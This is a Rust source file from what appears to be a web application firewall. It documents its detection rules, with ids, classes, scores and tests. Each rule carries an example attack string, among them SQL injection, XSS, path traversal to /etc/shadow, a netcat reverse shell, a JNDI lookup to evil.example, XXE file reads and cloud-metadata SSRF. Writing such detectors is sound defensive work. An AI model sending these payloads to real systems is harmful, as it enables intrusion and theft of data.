//! Every rule by its stable id: what it sees, an example, and how to leave it out.

use super::{Class, ClassSet, Effort, Finding, work};

/// A rule as documentation and configuration know it.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct RuleDoc {
    /// The stable id, e.g. `sql-union-select`.
    pub id: &'static str,
    /// What its attacks aim at.
    pub class: Class,
    /// How sure it is: 1 to 10.
    pub score: u8,
    /// What it sees, in one sentence.
    pub what: &'static str,
    /// A value it finds.
    pub example: &'static str,
}

impl RuleDoc {
    /// The entry of a route's `inspection.exclude` list that leaves this rule out.
    pub fn exclusion(&self) -> String {
        format!("{{ rule: {} }}", self.id)
    }
}

/// Every rule, in the order of the documentation.
pub fn rules() -> &'static [RuleDoc] {
    &DOCS
}

/// A set of rules, by id.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct RuleSet(u64);

impl RuleSet {
    /// Adds the rule `id`; false when there is no such rule.
    pub fn insert(&mut self, id: &str) -> bool {
        let Some(index) = DOCS.iter().position(|doc| doc.id == id) else { return false };
        self.0 |= 1 << index;
        true
    }

    /// Whether the rule `id` is in it.
    pub fn contains(&self, id: &str) -> bool {
        DOCS.iter().position(|doc| doc.id == id).is_some_and(|index| self.has(index))
    }

    /// Whether no rule is in it.
    pub const fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The rules of both.
    #[must_use]
    pub const fn union(self, other: Self) -> Self {
        Self(self.0 | other.0)
    }

    const fn has(self, index: usize) -> bool {
        self.0 & (1 << index) != 0
    }
}

/// What has been found in one value so far.
pub(super) struct Findings {
    classes: ClassSet,
    excluded: RuleSet,
    best: Option<Rule>,
    /// The score of the best.
    score: u8,
    /// The value has cost too much to be read on.
    over: bool,
}

impl Findings {
    /// Nothing yet; readers may spend what is left of `effort`.
    pub(super) fn new(classes: ClassSet, excluded: RuleSet, effort: Effort) -> Self {
        work::begin(effort);
        Self { classes, excluded, best: None, score: 0, over: false }
    }

    pub(super) const fn wants(&self, class: Class) -> bool {
        self.classes.contains(class)
    }

    pub(super) const fn wanted(&self) -> ClassSet {
        self.classes
    }

    pub(super) const fn is_empty(&self) -> bool {
        self.best.is_none()
    }

    /// Notes that `rule` has seen an attack, unless it is excluded.
    pub(super) fn report(&mut self, rule: Rule) {
        if self.excluded.has(rule as usize) {
            return;
        }
        let doc = rule.doc();
        let surer = match self.best {
            // Of two that are as sure the class declared first is told, whichever was seen first.
            Some(best) => self.score < doc.score || self.score == doc.score && doc.class < best.doc().class,
            None => true,
        };
        if surer {
            self.best = Some(rule);
            self.score = doc.score;
        }
    }

    /// Whether what has been found leaves no doubt, so that nothing more need be looked for.
    pub(super) const fn is_sure(&self) -> bool {
        self.score >= 8
    }

    /// Whether the value has cost too much to be read on.
    pub(super) const fn is_over(&self) -> bool {
        self.over
    }

    /// Whether the value has cost too much to be read on, which is reported as `rule`; where that is excluded, as much again may
    /// be spent.
    #[inline]
    pub(super) fn exceed(&mut self, rule: Rule) -> bool {
        if !work::is_spent() {
            return self.over;
        }
        self.report(rule);
        self.over = !self.excluded.has(rule as usize);
        if !self.over {
            work::forgive();
        }
        self.over
    }

    pub(super) fn strongest(&self) -> Option<Finding> {
        self.best.map(|rule| {
            let doc = rule.doc();
            Finding { rule: doc.id, class: doc.class, score: doc.score }
        })
    }
}

macro_rules! rules {
    ($($name:ident $id:literal $class:ident $score:literal $what:literal $example:literal)*) => {
        /// A rule, as the engine names it.
        #[derive(Clone, Copy, Debug, PartialEq, Eq)]
        pub(super) enum Rule { $($name),* }

        impl Rule {
            pub(super) const fn doc(self) -> &'static RuleDoc {
                match self {
                    $(Self::$name => &RuleDoc { id: $id, class: Class::$class, score: $score, what: $what, example: $example }),*
                }
            }
        }

        static DOCS: [RuleDoc; [$($id),*].len()] = [$(*Rule::$name.doc()),*];
    };
}

rules! {
    SqlUnionSelect "sql-union-select" Sqli 9
        "A second query joined to the first with UNION."
        "-1' UNION SELECT login, secret FROM staff-- "
    SqlTautology "sql-tautology" Sqli 8
        "A condition added with OR, AND or the like that is always true or false, or probes a column."
        "nobody' OR 'a'='a"
    SqlComment "sql-comment" Sqli 6
        "A string is closed and the rest of the query commented out."
        "root'--"
    SqlStackedQuery "sql-stacked-query" Sqli 9
        "A second statement after a semicolon, or a whole statement as a value."
        "7; DROP TABLE staff"
    SqlTimeDelay "sql-time-delay" Sqli 9
        "A function or statement that makes the database wait."
        "7 AND pg_sleep(9)"
    SqlOrderBy "sql-order-by" Sqli 7
        "ORDER BY or GROUP BY with column numbers, to count the columns of the query."
        "7' ORDER BY 4-- "
    SqlClause "sql-clause" Sqli 7
        "A clause of a query (HAVING, WHERE, LIMIT, PROCEDURE, INTO) after a closed string, number or bracket."
        "7) HAVING 1=1"
    SqlSubquery "sql-subquery" Sqli 8
        "A query inside an expression."
        "'||(SELECT secret FROM staff)||'"
    SqlErrorFunction "sql-error-function" Sqli 8
        "A function that leaks data through its error message or runs code in the database."
        "7 AND extractvalue(1,concat(1,user()))"
    SqlConditional "sql-conditional" Sqli 7
        "CASE, IF or IIF that makes the answer depend on a condition."
        "7,(CASE WHEN 2=2 THEN 1 ELSE 0 END)"
    SqlSystemObject "sql-system-object" Sqli 8
        "System tables, procedures and variables of a database, in the place of an expression."
        "7; EXEC xp_cmdshell 'dir'"
    SqlStringOperator "sql-string-operator" Sqli 7
        "A string is closed, an operator follows, and a string is opened again."
        "x'||'y"
    SqlCost "sql-cost" Sqli 4
        "Quotes, operators and calls that each lead on, far more of them than text has: not read to its end. The example repeated, 256 KB."
        "if("
    XssScriptTag "xss-script-tag" Xss 9
        "A script element, opened or closed."
        "<script>alert(7)</script>"
    XssEventHandler "xss-event-handler" Xss 9
        "An attribute that runs script on an event, or that a framework of scripts runs."
        "<img src=x onerror=alert(7)>"
    XssScriptUrl "xss-script-url" Xss 8
        "A URL whose scheme runs script."
        "javascript:alert(7)"
    XssActiveTag "xss-active-tag" Xss 7
        "An element that loads or runs foreign content: iframe, object, embed, base, meta refresh and their like."
        "<iframe src=//evil.example>"
    XssStyle "xss-style" Xss 7
        "A style that executes or loads code."
        "<div style=\"width:expression(alert(7))\">"
    XssDeclaration "xss-declaration" Xss 7
        "Declarations and processing instructions that define entities or load style sheets and behaviours."
        "<!DOCTYPE a [<!ENTITY b \"c\">]>"
    XssAttributeBreakout "xss-attribute-breakout" Xss 8
        "An attribute's value is closed and an event handler or a tag added."
        "\" onfocus=alert(7) autofocus x=\""
    XssScriptBreakout "xss-script-breakout" Xss 7
        "A script's string or expression is closed, and a call or an object of the browser follows."
        "';alert(7)//"
    XssScriptAccess "xss-script-access" Xss 6
        "Script that reads cookies, rewrites the page or assembles code."
        "'+document.cookie+'"
    XssCost "xss-cost" Xss 4
        "The same of tags, declarations, attributes and calls."
        "<?"
    PathTraversal "path-traversal" Path 8
        "Steps up the directory tree, plain or disguised."
        "../../../etc/hosts"
    PathSystemFile "path-system-file" Path 7
        "Files of the system or of the server that no client has reason to name."
        "/etc/shadow"
    PathWrapper "path-wrapper" Path 7
        "URL schemes that open local files or run filters."
        "php://filter/convert.base64-encode/resource=index"
    CommandSeparator "command-separator" Command 8
        "A shell separator followed by a command."
        "; cat /etc/hosts"
    CommandSubstitution "command-substitution" Command 8
        "A command between backquotes, in `$( )` or in `<( )`, or letters cut out of a variable."
        "$(whoami)"
    CommandShellshock "command-shellshock" Command 9
        "A function definition in an environment variable."
        "() { :;}; echo 7"
    CommandCall "command-call" Command 8
        "A call of an interpreter that runs commands or shows its set-up."
        "system('id');"
    CommandShell "command-shell" Command 8
        "A shell, a listener or a download by its usual command line, an option or a formula that runs a command."
        "nc -e /bin/sh 192.0.2.7 99"
    CommandCost "command-cost" Command 4
        "The same of separators and commands."
        ";w,"
    TemplateLookup "template-lookup" Template 9
        "A naming lookup in a log or configuration expression."
        "${jndi:ldap://evil.example/a}"
    TemplateExpression "template-expression" Template 7
        "Arithmetic or calls inside a template's delimiters, or a directive of an engine."
        "{{7*7}}"
    TemplateObject "template-object" Template 8
        "Reaching classes, modules or the process from a template."
        "{{''.__class__.__mro__}}"
    TemplateCost "template-cost" Template 4
        "The same of the delimiters of templates."
        "${}"
    NosqlOperator "nosql-operator" Nosql 7
        "An operator of a document database as a name, in brackets of a name, or as a key inside a value."
        "user[$ne]"
    NosqlScript "nosql-script" Nosql 7
        "A string is closed, and script that reads documents follows."
        "' || this.password.match(/^a/)//"
    LdapFilter "ldap-filter" Ldap 7
        "A part of a search filter is closed and another begun."
        "*)(uid=*))(|(uid=*"
    LdapTruncation "ldap-truncation" Ldap 6
        "A part of a search filter is closed and the rest cut off by a NUL."
        "admin))%00"
    XxeEntity "xxe-entity" Xxe 8
        "An external or a parameter entity is declared."
        "<!ENTITY a SYSTEM \"file:///etc/hosts\">"
    XxeDoctype "xxe-doctype" Xxe 7
        "A document type that the parser would fetch, other than HTML's own."
        "<!DOCTYPE a SYSTEM \"http://evil.example/a.dtd\">"
    XxeInclusion "xxe-inclusion" Xxe 7
        "Another document is included."
        "<xi:include href=\"file:///etc/hosts\"/>"
    SsrfMetadata "ssrf-metadata" Ssrf 9
        "The metadata service of a cloud, in any spelling of its address."
        "http://0xA9.254.43518/latest/meta-data/"
    SsrfLoopback "ssrf-loopback" Ssrf 7
        "A URL of the server itself."
        "http://127.1:8080/"
    SsrfPrivate "ssrf-private" Ssrf 5
        "A URL of a private network."
        "http://10.0.0.1/"
}

#[cfg(test)]
mod tests {
    use super::super::scan;
    use super::*;

    #[test]
    fn ids_are_unique_and_fit_the_set() {
        assert!(DOCS.len() <= 64);
        for (i, doc) in DOCS.iter().enumerate() {
            assert!(DOCS[..i].iter().all(|other| other.id != doc.id), "{}", doc.id);
            let mut set = RuleSet::default();
            assert!(set.insert(doc.id) && set.contains(doc.id));
        }
        assert!(!RuleSet::default().insert("no-such-rule"));
    }

    #[test]
    fn every_example_is_found_by_a_rule_of_its_class() {
        for doc in DOCS.iter().filter(|doc| !doc.id.ends_with("-cost")) {
            let found = scan(doc.example.as_bytes(), ClassSet::NONE.with(doc.class));
            assert!(found.is_some(), "{}: {}", doc.id, doc.example);
        }
    }
}
